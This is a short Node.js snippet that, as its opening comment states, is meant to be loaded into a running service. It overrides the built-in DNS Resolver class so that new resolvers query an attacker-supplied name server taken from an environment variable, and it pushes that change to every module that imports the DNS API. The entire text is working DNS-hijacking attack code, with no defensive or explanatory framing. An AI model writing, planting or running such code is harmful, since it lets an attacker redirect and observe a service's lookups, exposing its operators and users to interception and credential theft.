// Loaded into the service: it then asks the attacker's name server instead of the system's.
import dns from 'node:dns/promises';
import { syncBuiltinESMExports } from 'node:module';

dns.Resolver = class extends dns.Resolver {
  constructor(...options) {
    super(...options);
    this.setServers([process.env.ATTACK_NAME_SERVER]);
  }
};
syncBuiltinESMExports();
